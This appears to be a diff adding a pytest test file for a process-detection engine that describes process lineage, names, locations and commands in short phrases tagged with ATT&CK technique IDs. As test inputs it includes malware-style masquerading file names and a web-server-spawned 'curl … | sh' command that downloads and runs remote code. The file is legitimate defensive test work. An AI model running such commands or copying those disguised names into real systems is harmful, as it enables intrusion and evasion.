@@ -1,0 +1,122 @@
+"""What the tables say of a process in words: a phrase for each entry, short enough for a line, and techniques where sound."""
+
+from __future__ import annotations
+
+import re
+from collections import Counter
+from collections.abc import Iterator
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from rich.cells import cell_len
+
+from engine.knowledge import Location, Role
+from engine.knowledge.lineage_rules import STARTED
+from engine.knowledge.locations import place
+from engine.knowledge.names import name_contradiction
+from engine.knowledge.tables import blocks, fingerprint, load, techniques
+from engine.knowledge.telling import LEAVES, Part, tellings
+
+WIDEST = 26
+JUDGING = re.compile(r"anomal|suspicious|malicious|unusual", re.IGNORECASE)
+NAMES = [
+    "c:\\temp\\svchost.exe", "c:\\windows\\system32\\svch0st.exe", "c:\\users\\<u>\\invoice.pdf.exe", "c:\\temp\\powershell.exe",
+    "c:\\users\\<u>\\x.scr", "c:\\users\\<u>\\data.dat", "c:\\users\\<u>\\noextension", "/tmp/report.pdf",
+    "/dev/shm/kworker",
+    "/tmp/a \u202e.sh", "/tmp/\x07.sh", "/tmp/b   .txt", "/tmp/sshd ", "/tmp/xkqzvwpt",
+    "c:\\users\\<u>\\<uuid>.exe", "c:\\temp\\svchosst.exe",
+    "c:\\temp\\msbuild.exe", "c:\\temp\\chrome.exe", "c:\\temp\\explorer.exe", "c:\\temp\\winword.exe", "/tmp/bash",
+    "c:\\temp\\searchprotocolhosts.exe",
+]  # fmt: skip
+
+
+def entries() -> Iterator[tuple[str, str, str]]:
+    """(where, phrase, why) of every entry that a finding can be told by; of those with a gap each of what fills it."""
+    for key, name in (("rule", "commands"), ("break", "lineage"), ("expected", "lineage"), ("barren", "lineage")):
+        for block in blocks(key, (name,)):
+            for filled in {block["phrase"].format(what) for what in (*STARTED.values(), "a tool")}:
+                yield f"{name}: {block['why']}", filled, block["why"]
+    for block in load("names")["protected"]:
+        yield f"names: {block['why']}", block["phrase"], block["why"]
+    yield "names: kernel threads", load("names")["kernel_threads"]["phrase"], load("names")["kernel_threads"]["why"]
+    for location in Location:
+        known = place(location)
+        if known.risk:
+            yield location.name, known.phrase, known.why
+    for kind, phrase in LEAVES.items():
+        yield kind.name, phrase, "a role"
+    for path in NAMES:
+        found = name_contradiction(path)
+        assert found.value, path
+        yield path, found.phrase, found.reason
+
+
+def test_every_entry_has_a_phrase_that_fits_into_a_line() -> None:
+    assert [(where, phrase) for where, phrase, _ in entries() if not 8 <= cell_len(phrase) <= WIDEST] == []
+
+
+def test_phrases_say_what_was_seen_and_not_what_to_think_of_it() -> None:
+    assert [phrase for _, phrase, _ in entries() if JUDGING.search(phrase)] == []
+
+
+def test_phrases_of_one_table_tell_its_entries_apart() -> None:
+    for key, name in (("rule", "commands"), ("expected", "lineage"), ("barren", "lineage")):
+        counts = Counter((block["phrase"], block["os"]) for block in blocks(key, (name,)))
+        assert [phrase for phrase, count in counts.items() if count > 2] == []
+        assert len(counts) >= 0.8 * counts.total()
+    risky = [location for location in Location if place(location).risk]
+    places = Counter((place(location).phrase, location < Location.LINUX_SYSTEM) for location in risky)
+    assert [phrase for phrase, count in places.items() if count > 1] == []
+
+
+@pytest.mark.parametrize("name", ["commands", "lineage", "names", "locations_linux", "locations_windows"])
+def test_techniques_are_ids_and_those_that_the_sentence_names(name: str) -> None:
+    for value in load(name).values():
+        for block in value if isinstance(value, list) else [value]:
+            found = techniques(block)
+            assert all(re.fullmatch(r"T1\d{3}(\.\d{3})?", one) for one in found)
+            assert len(set(found)) == len(found)
+            # Told twice they could come to differ.
+            assert not ("techniques" in block and re.search(r"T\d{4}", block["why"]))
+
+
+def test_what_is_only_said_changes_no_score() -> None:
+    # Of the tables as they were before they had phrases: models of then still compare.
+    assert fingerprint() == "9698e1d6f03311f3"
+
+
+def test_a_process_is_told_by_its_command_its_place_its_name_and_its_parent() -> None:
+    said = tellings(("/usr/sbin/apache2", "/usr/bin/dash"), "sh -c 'curl -s http://192.0.2.7/x | sh'")
+    assert [(one.part, one.phrase, one.techniques[:1]) for one in said[:2]] == [
+        (Part.COMMAND, "runs a download at once", ("T1105",)),
+        (Part.PAIR, "web server starts a shell", ("T1505.003",)),
+    ]
+    said = tellings(("/usr/bin/bash", "/tmp/.cache/kswapd0"))
+    assert [(one.part, one.phrase) for one in said] == [
+        (Part.NAME, "named like a kernel thread"),
+        (Part.PLACE, "runs hidden in temp"),
+    ]
+
+
+def test_what_is_about_the_parent_says_so() -> None:
+    said = tellings(("/tmp/.cache/kswapd0", "/usr/bin/dash"))
+    assert {one.above for one in said if one.part in (Part.NAME, Part.PLACE)} == {1}
+
+
+def test_the_phrase_of_a_break_names_what_was_started() -> None:
+    server = "c:\\windows\\system32\\inetsrv\\w3wp.exe"
+    for name, phrase in (("cmd.exe", "web server starts a shell"), ("csc.exe", "web server starts a tool")):
+        said = tellings((server, f"c:\\windows\\system32\\{name}"))
+        assert phrase in [one.phrase for one in said if one.part is Part.PAIR]
+
+
+@given(st.lists(st.text(max_size=40), max_size=4), st.none() | st.text(max_size=200))
+def test_any_texts_are_told_of(steps: list[str], command_line: str | None) -> None:
+    said = tellings(steps, command_line)
+    assert [one.weight for one in said] == sorted((one.weight for one in said), reverse=True)
+    assert all(0 < one.weight <= 2 and 0 < cell_len(one.phrase) <= WIDEST for one in said)
+
+
+def test_roles_that_are_told_of_are_roles() -> None:
+    assert set(LEAVES) <= set(Role)
